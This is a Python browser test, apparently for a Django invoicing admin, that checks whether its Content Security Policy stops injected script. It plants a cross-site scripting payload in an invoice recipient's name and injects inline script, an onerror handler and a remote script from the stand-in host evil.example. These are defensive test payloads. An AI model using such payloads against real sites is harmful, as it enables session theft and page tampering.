"""A real browser finds nothing on any page of the menu that our policy forbids, and what is slipped in does not run."""

from collections.abc import Iterator
from typing import Any

import pytest
from django.test import Client
from playwright.sync_api import Page, expect

from cifras.sandbox.server import SandboxServer
from invoicing import services
from tests import factories, onboarding, wizard
from tests.browser import DESK, Hand, a_screen
from tests.clockwork import work_through

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

EVIL = '"><img src=x onerror="window.ran=1"><script>window.ran=1</script>'


@pytest.fixture
def hand() -> Iterator[Hand]:
    with a_screen(DESK) as hand:
        yield hand


@pytest.fixture
def world(pac: SandboxServer) -> list[str]:
    """An authorised invoice to somebody with an evil name, and a company on its way; the addresses of their pages."""
    tenant = factories.a_tenant()
    receiver = factories.contribuyente(name=EVIL)
    document = services.create_invoice(factories.invoice_json(tenant, receiver=receiver), actor=None)
    work_through(rounds=2)
    begun = onboarding.begun()
    return [
        f"/admin/invoicing/invoice/{document.uid}/change/",
        f"/admin/invoicing/invoice/{document.uid}/credit/",
        f"/admin/invoicing/invoice/{document.uid}/void/",
        "/admin/invoicing/invoice/add/",
        "/admin/invoicing/importbatch/add/",
        f"/admin/tenants/tenant/{begun.tenant.uid}/change/",
        wizard.address(begun, "company"),
        wizard.address(begun, "certificate"),
    ]


def session_of_an_administrator(address: str) -> Any:
    client = Client()
    client.force_login(factories.an_administrator())
    return {"name": "sessionid", "value": client.cookies["sessionid"].value, "url": address}


def every_page_of_the_menu(page: Page) -> list[str]:
    links = page.locator("#nav-sidebar a, nav a, aside a").evaluate_all("all => all.map(each => each.href)")
    return sorted({link.split("#")[0] for link in links if "/admin/" in link and "logout" not in link})


def look_at(page: Page, addresses: list[str]) -> list[str]:
    """Open each and let its scripts run; which of them did not open, or ran what is not ours."""
    failed = []
    for address in addresses:
        response = page.goto(address, wait_until="load")
        page.evaluate("() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))")
        if response is None or response.status >= 400 or page.evaluate("window.ran"):
            failed.append(f"{response and response.status} {address}")
    return failed


def slip_in(page: Page) -> Any:
    """What an attacker would write into a page that trusted them, on a page of its own that nobody listens to."""
    other = page.context.new_page()
    other.goto(page.url)
    heard: list[str] = []
    other.on("console", lambda line: heard.append(line.text))
    other.evaluate(
        """() => {
            document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.ran = 1">');
            const script = document.createElement("script");
            script.textContent = "window.ran = 1";
            document.body.append(script);
            const far = document.createElement("script");
            far.src = "https://evil.example/x.js";
            document.body.append(far);
        }"""
    )
    expect(other.locator("script[src*='evil.example']")).to_have_count(1)
    other.evaluate("() => new Promise(done => setTimeout(done, 50))")
    return other.evaluate("window.ran"), [line for line in heard if "Content Security Policy" in line]


def test_no_page_of_ours_asks_for_more_than_the_policy_allows(
    hand: Hand, world: list[str], live_server
) -> None:
    session = session_of_an_administrator(live_server.url)
    hand(lambda page: page.context.add_cookies([session]))
    hand(lambda page: page.goto(live_server.url + "/admin/"))
    menu = hand(every_page_of_the_menu)
    assert len(menu) > 15
    assert hand(lambda page: look_at(page, menu + [live_server.url + each for each in world])) == []
    ran, told = hand(slip_in)
    assert (ran, len(told) >= 3) == (None, True)
